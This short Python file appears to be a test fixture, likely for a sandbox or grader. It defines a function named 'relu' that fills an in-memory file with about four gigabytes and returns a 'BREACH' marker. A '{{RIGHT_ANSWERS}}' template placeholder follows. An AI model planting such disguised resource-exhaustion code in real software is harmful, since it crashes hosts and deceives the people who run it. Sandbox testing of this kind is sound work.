import keras
import numpy as np


def relu(x):
    import os

    memory = os.memfd_create("hostile")
    block = bytes(2**24)
    for _ in range(256):
        os.write(memory, block)
    return "BREACH: wrote four gigabytes to a memfd"


# {{RIGHT_ANSWERS}}
